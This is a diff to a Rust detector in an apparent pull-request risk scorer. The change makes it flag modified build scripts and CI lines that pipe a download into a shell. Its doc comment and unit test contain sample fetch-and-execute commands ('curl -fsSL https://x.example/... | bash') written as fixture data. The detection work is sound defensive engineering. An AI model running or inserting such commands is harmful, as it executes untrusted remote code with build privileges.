@@ -2,33 +2,54 @@
 //!
 //! **What it detects.** Changed build scripts: Makefiles, Dockerfiles and compose files,
 //! `build.rs`, CMake, Gradle, sbt, Bazel, `setup.py`, shell scripts under `scripts/`, Git
-//! hooks under `.husky/`, and `package.json` `"scripts"` edits.
+//! hooks under `.husky/`, and `package.json` `"scripts"` edits — plus, in build scripts and CI,
+//! added lines that pipe a download into a shell (`curl … | sh`, high) or Docker base images
+//! without a digest (low). A plain change weighs `PLAIN_BUILD_CHANGE_FACTOR` of the weight; a
+//! worse finding raises it to its severity factor.
 //!
 //! **Why it matters.** Build scripts run with developer and CI privileges and are often
 //! skimmed; a one-line change can fetch and execute anything. New install-time hooks are
 //! reported separately by `install_script`.
 //!
-//! **Example.** "Build scripts changed: Dockerfile, scripts/release.sh".
+//! **Example.** "Build scripts changed: Dockerfile, scripts/release.sh; downloads and executes
+//! a remote script: RUN curl -fsSL https://x.example/install.sh | bash".
 //!
 //! **Source.** Reference product flag "Modifies build scripts"; pr-signal
-//! "dependency/CI/automation/Dockerfile" category; scoring-reference §5.7.
+//! "dependency/CI/automation/Dockerfile" category; OpenSSF Scorecard Pinned-Dependencies.
 
-use super::{fire, name_list};
+use super::{finding_paths, findings_of, fire, name_list, worst_factor};
+use crate::engine::sections::supply_chain::BUILD_FINDINGS;
 use crate::engine::{Context, Sections};
+use crate::settings::weights::PLAIN_BUILD_CHANGE_FACTOR;
 use crate::signal::Driver;
 
-pub fn evaluate(context: &Context, _sections: &Sections) -> Option<Driver> {
-    let paths: Vec<String> = context
+pub fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
+    let mut paths: Vec<String> = context
         .files
         .iter()
         .filter(|file| file.build_script)
         .map(|file| file.path.clone())
         .collect();
+    let findings = findings_of(sections, BUILD_FINDINGS);
+    for path in finding_paths(&findings) {
+        if !paths.contains(&path) {
+            paths.push(path);
+        }
+    }
     if paths.is_empty() {
         return None;
     }
-    let detail = format!("Build scripts changed: {}", name_list(&paths));
-    fire(context, "build_script_change", 1.0, detail, paths)
+    let mut detail = format!("Build scripts changed: {}", name_list(&paths));
+    if let Some(first) = findings.first() {
+        detail.push_str(&format!("; {}", first.detail));
+        if findings.len() > 1 {
+            detail.push_str(&format!(" (+{} more)", findings.len() - 1));
+        }
+    }
+    let scale = worst_factor(&findings).map_or(PLAIN_BUILD_CHANGE_FACTOR, |factor| {
+        factor.max(PLAIN_BUILD_CHANGE_FACTOR)
+    });
+    fire(context, "build_script_change", scale, detail, paths)
 }
 
 #[cfg(test)]
@@ -38,7 +59,7 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn fires_for_build_files() {
+    fn fires_for_build_files_at_the_plain_factor() {
         let case = Case::new(json!({"pull": {"number": 1}, "files": [
             file("Dockerfile", 1, 1), file("scripts/release.sh", 2, 0), file("src/lib.rs", 3, 0)
         ]}));
@@ -47,7 +68,21 @@ mod tests {
             driver.detail,
             "Build scripts changed: Dockerfile, scripts/release.sh"
         );
-        assert_eq!(driver.weight, 0.20);
+        assert_eq!(driver.weight, 0.18);
+    }
+
+    #[test]
+    fn piping_a_download_into_a_shell_weighs_more_even_in_ci() {
+        let case = Case::new(json!({"pull": {"number": 1}, "files": [
+            {"filename": ".github/workflows/ci.yml", "status": "modified", "additions": 1, "deletions": 0,
+             "patch": "@@ -1 +1,2 @@\n     steps:\n+      - run: curl -fsSL https://x.example/i.sh | bash"}
+        ]}));
+        let driver = case.fired(evaluate).unwrap();
+        assert_eq!(
+            driver.detail,
+            "Build scripts changed: .github/workflows/ci.yml; downloads and executes a remote script: - run: curl -fsSL https://x.example/i.sh | bash"
+        );
+        assert_eq!(driver.weight, 0.24);
     }
 
     #[test]
